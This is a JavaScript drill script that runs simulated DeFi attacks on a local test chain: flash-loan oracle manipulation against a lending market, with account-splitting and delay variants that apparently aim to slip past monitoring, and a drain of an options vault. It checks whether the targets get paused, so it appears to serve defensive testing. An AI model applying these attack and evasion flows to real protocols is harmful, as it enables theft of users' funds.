// The drill's dollars. usage: 33-market.mjs slow|split|held|exit
import { dataOf, deploy, H, hex, say, settled, tell } from './lib.mjs'

const how = process.argv[2]
const isSlow = ['slow', 'split', 'held'].includes(how)
const s = await H.stage(`market-${how}`)
const { rpc } = s,
  d = s.deployment,
  me = H.addressOf(isSlow ? 'oracleAttacker' : 'optionAttacker')
const usdc = async (a) =>
  BigInt(await rpc('eth_call', [{ to: d.usdc, data: dataOf('FakeToken', 'balanceOf', [a]) }, 'latest']))
const ask = async (to, signature) =>
  BigInt(await rpc('eth_call', [{ to, data: H.viem.toFunctionSelector(signature) }, 'latest']))
const give = async (from, token, to, amount) => {
  await rpc('anvil_impersonateAccount', [from])
  await rpc('anvil_setBalance', [from, hex(10n ** 18n)])
  const { status } = await H.send(rpc, {
    from,
    to: token,
    data: H.viem.encodeFunctionData({ abi: H.viem.erc20Abi, functionName: 'transfer', args: [to, amount] }),
  })
  if (status !== '0x1') throw new Error('gift')
}
/** A new account for each step, which begins with a coin of the attacker. */
const another = async (i, fn) => {
  const account = H.viem
    .getAddress(`0x${H.viem.keccak256(H.viem.toHex(`${i} ${fn}`)).slice(-40)}`)
    .toLowerCase()
  await rpc('anvil_impersonateAccount', [account])
  const { status } = await H.send(rpc, { from: me, to: account, value: hex(10n ** 18n) })
  if (status !== '0x1') throw new Error('fund')
  return account
}
const target = isSlow ? d.lendingMarket : d.optionsVault
let before
if (isSlow) {
  const pump = await ask(d.attackOracle, 'pump()')
  const at = await deploy(rpc, me, 'Slow', { args: [d.pair, d.usdc, d.acme, d.lendingMarket] })
  await give(d.flashLender, d.usdc, at, pump)
  before = await usdc(target)
  for (let i = 0; i < 6; i++) {
    for (const [fn, args] of [
      ['sell', [d.usdc, await usdc(at)]],
      ['borrow', [100_000n * 10n ** 6n]],
      ['back', []],
    ]) {
      if (how === 'held' && fn === 'borrow') await H.sleep(20_000)
      const from = how === 'split' ? await another(i, fn) : me
      const x = await H.send(rpc, { from, to: at, data: dataOf('Slow', fn, args) })
      say('  tx', i, fn, x.status, 'market has', String((await usdc(target)) / 10n ** 6n))
      if (x.status !== '0x1') break
    }
    if (await s.paused(target)) break
  }
} else {
  const at = await deploy(rpc, me, 'Exit', { args: [d.usdc, d.lendingMarket] })
  const options = BigInt(
    await rpc('eth_call', [
      { to: d.settledSeries.token, data: dataOf('FakeToken', 'balanceOf', [d.attackOption]) },
      'latest',
    ]),
  )
  await give(d.attackOption, d.settledSeries.token, at, options)
  before = await usdc(target)
  const writers = ['writerA', 'writerB', 'writerC', 'writerD'].map((who) => H.addressOf(who))
  for (let i = 0; i < 6; i++) {
    const x = await H.send(rpc, {
      from: me,
      to: at,
      data: dataOf('Exit', 'go', [d.optionsVault, BigInt(d.settledSeries.id), 10n * 10n ** 18n, writers]),
    })
    say(
      '  tx',
      i,
      x.status,
      'vault has',
      String((await usdc(target)) / 10n ** 6n),
      'market has',
      String((await usdc(d.lendingMarket)) / 10n ** 6n),
    )
    if (await s.paused(target)) break
  }
  const loot = before - (await usdc(target))
  say('  out', (await H.send(rpc, { from: me, to: at, data: dataOf('Exit', 'out', [loot]) })).status)
}
await settled(s, 20_000)
await tell(s, {
  name: how,
  targets: [d.optionsVault, d.lendingMarket],
  before,
  after: await usdc(target),
  text: (n) => `${n / 10n ** 6n} USDC`,
})
